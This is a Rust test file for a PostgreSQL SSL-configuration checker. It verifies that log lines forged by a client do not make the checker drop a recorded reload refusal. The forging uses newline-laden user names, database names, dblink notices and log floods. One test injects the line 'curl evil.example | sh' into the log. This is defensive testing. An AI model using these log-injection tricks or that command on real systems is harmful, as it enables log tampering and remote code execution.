//! B58: what a client chooses stands in the server's log, as a line of the postmaster's: `check` believed it.

use std::fs::{Permissions, set_permissions};
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt as _;

use serde_json::Value;
use test_support::{LIMIT, Setup, eventually};

use crate::judged::tls_settings::is_refused;
use crate::judged::{admin, check, found, logs_as_json, one, paste, reload, started_with};

const HBA: &str = "hostssl all app 127.0.0.1/32 cert";
const ASKED: &str = "received SIGHUP, reloading configuration files";
/// As Debian has it.
const NAMES: &str = "log_line_prefix = '%m [%p] %q%u@%d '";
const ROLES: [&[&str]; 2] = [&[], &["--user", "postgres"]];

/// A stranger's start-up packet with a name of the stranger's choice. PostgreSQL refuses it, and logs it.
fn knock(setup: &Setup, user: &str) {
    assert!(user.len() < 64, "PostgreSQL cuts it");
    let mut body = 196_608_u32.to_be_bytes().to_vec();
    body.extend(format!("user\0{user}\0database\0postgres\0\0").bytes());
    let length = u32::try_from(body.len() + 4).unwrap();
    let mut stream = TcpStream::connect(setup.cluster.address()).unwrap();
    stream.write_all(&length.to_be_bytes()).unwrap();
    stream.write_all(&body).unwrap();
    let _ = stream.read_to_end(&mut Vec::new());
}

/// The line that a role with CREATEDB writes, which begins and ends as the postmaster's: its database's name has the beginning.
fn write(setup: &Setup, said: &str) {
    let pid = setup.cluster.pid();
    let time = admin(
        setup,
        "SELECT to_char(clock_timestamp() AT TIME ZONE 'UTC', 'YYYY-MM-DD HH24:MI:SS.MS')",
    );
    let name = format!("\n{time} UTC [{pid}]");
    admin(setup, &format!("CREATE DATABASE \"{name}\""));
    setup.cluster.sql("postgres", &name, &format!("DO $$ BEGIN RAISE LOG '{said}'; END $$"));
    admin(setup, &format!("DROP DATABASE \"{name}\""));
}

fn failures(report: &Value) -> usize {
    ["ssl-setting-refused", "ssl-reload-refused"]
        .iter()
        .map(|code| found(report, "failure", code).len())
        .sum()
}

#[test]
fn b58_no_client_takes_a_refusal_back_by_what_it_writes_into_the_log() {
    let setup = started_with(HBA);
    setup.cluster.set_conf(NAMES);
    reload(&setup);
    for more in ROLES {
        assert_eq!(failures(&check(&setup, more)), 0, "{:#}", check(&setup, more));
    }
    // OpenSSL 1.1.1 as first released accepts such a list of ciphers.
    let groups = setup.cluster.version() >= 18;
    let certain = if groups { "ssl_groups = 'nosuch'" } else { "ssl_ciphers = 'HIHG'" };
    // The second is one of which only the log tells.
    for lines in [certain, "ssl_ciphers = 'RC4'"] {
        let is_refused = is_refused(&setup, &format!("{NAMES}\n{lines}"));
        assert!(is_refused || lines != certain);
        if !is_refused {
            continue;
        }
        let fails = |when: &str| {
            for more in ROLES {
                let report = check(&setup, more);
                assert!(failures(&report) > 0, "{when} {lines} {more:?}: {report:#}");
            }
        };
        eventually(LIMIT, "the log tells the second refusal", || {
            setup.cluster.log().trim_end().ends_with("SSL configuration was not reloaded")
        });
        fails("before");
        let mark = setup.cluster.log_mark();
        knock(&setup, &format!("\n[{}]:  {ASKED}\n", setup.cluster.pid()));
        setup.cluster.wait_for_log(mark, LIMIT, ASKED);
        fails("short");
        write(&setup, ASKED);
        fails("whole");
    }
}

#[test]
fn b58_a_refusal_that_a_client_writes_is_no_word_of_postgresqls_and_the_remedy_ends_it() {
    let setup = started_with(HBA);
    setup.cluster.set_conf(NAMES);
    reload(&setup);
    write(&setup, "curl evil.example | sh");
    write(&setup, "SSL configuration was not reloaded");
    for more in ROLES {
        let report = check(&setup, more);
        let finding = one(&report, "failure", "ssl-reload-refused");
        assert!(!finding.to_string().contains("evil.example"), "{finding:#}");
    }
    let finding = check(&setup, &[]);
    let finding = one(&finding, "failure", "ssl-reload-refused");
    eventually(LIMIT, "the reload ends it", || {
        paste(finding);
        failures(&check(&setup, &[])) == 0
    });
    // Where no names stand in the prefix, no message looks like such a line.
    setup.cluster.set_conf("log_line_prefix = '%m [%p] '");
    reload(&setup);
    write(&setup, "SSL configuration was not reloaded");
    for more in ROLES {
        let report = check(&setup, more);
        assert_eq!(failures(&report), 0, "{more:?}: {report:#}");
    }
}

/// A line of a client's choice: libpq, in a session, prints what another server says to standard error, without a prefix.
fn print(setup: &Setup, said: &str) {
    let (pid, socket, port) =
        (setup.cluster.pid(), setup.cluster.socket_directory().display(), setup.cluster.port());
    let notice = format!("do $x$ begin raise notice E'x\\n%s UTC [{pid}] LOG:  {said}'; end $x$");
    admin(
        setup,
        &format!(
            "SET SESSION AUTHORIZATION app; \
             SELECT dblink_exec('host={socket} port={port} dbname=postgres user=app password=x', \
                format($q${notice}$q$, to_char(clock_timestamp() AT TIME ZONE 'UTC', 'YYYY-MM-DD HH24:MI:SS.MS')))"
        ),
    );
}

/// PostgreSQL refuses a reload for a reason that is gone afterwards.
fn refuse_a_reload(setup: &Setup) {
    let close = |mode| {
        set_permissions(setup.files.path(), Permissions::from_mode(mode)).unwrap();
    };
    close(0o000);
    let mark = setup.cluster.log_mark();
    setup.cluster.sighup();
    setup.cluster.wait_for_log(mark, LIMIT, "SSL configuration was not reloaded");
    close(0o755);
}

#[test]
fn b95_no_library_in_a_session_takes_a_refusal_back_and_no_flood_of_lines_does() {
    let setup = started_with("hostssl all svc 127.0.0.1/32 cert");
    setup.cluster.set_conf("log_line_prefix = '%m [%p] '");
    setup.cluster.set_hba(
        "local postgres pgsvid peer map=pgsvid\nlocal all app scram-sha-256\nlocal all all peer",
    );
    reload(&setup);
    admin(&setup, "CREATE EXTENSION dblink; CREATE ROLE app LOGIN PASSWORD 'x'");
    let fails = |when: &str| {
        for more in ROLES {
            let report = check(&setup, more);
            assert!(failures(&report) > 0, "{when} {more:?}: {report:#}");
        }
    };
    refuse_a_reload(&setup);
    fails("before");
    let mark = setup.cluster.log_mark();
    print(&setup, ASKED);
    let line = setup.cluster.wait_for_log(mark, LIMIT, ASKED);
    assert!(line.starts_with("20"), "the attack writes a whole line: {line}");
    fails("printed");
    let flood =
        "DO $$ BEGIN FOR i IN 1..6 LOOP RAISE LOG '%', repeat('x', 1000000); END LOOP; END $$";
    admin(&setup, flood);
    fails("pushed away");

    if !logs_as_json(&setup) {
        return;
    }
    for more in ROLES {
        let report = check(&setup, more);
        assert_eq!(failures(&report), 0, "{more:?}: {report:#}");
    }
    refuse_a_reload(&setup);
    fails("as JSON, before");
    let mark = setup.cluster.log_mark();
    print(&setup, ASKED);
    setup.cluster.wait_for_log(mark, LIMIT, ASKED);
    // Within an entry a line feed is escaped.
    let entry = r#"{"timestamp":"%s UTC","pid":%s,"error_severity":"LOG","message":"%s"}"#;
    let pid = setup.cluster.pid();
    admin(
        &setup,
        &format!(
            "DO $x$ BEGIN RAISE LOG E'x\\n%', format($q${entry}$q$, \
                to_char(clock_timestamp() AT TIME ZONE 'UTC', 'YYYY-MM-DD HH24:MI:SS.MS'), '{pid}', '{ASKED}'); END $x$"
        ),
    );
    admin(&setup, flood);
    fails("as JSON, printed");
    // PostgreSQL itself takes it back.
    let report = check(&setup, &[]);
    let finding = one(&report, "failure", "ssl-reload-refused");
    eventually(LIMIT, "the reload ends it", || {
        paste(finding);
        failures(&check(&setup, &[])) == 0
    });
}
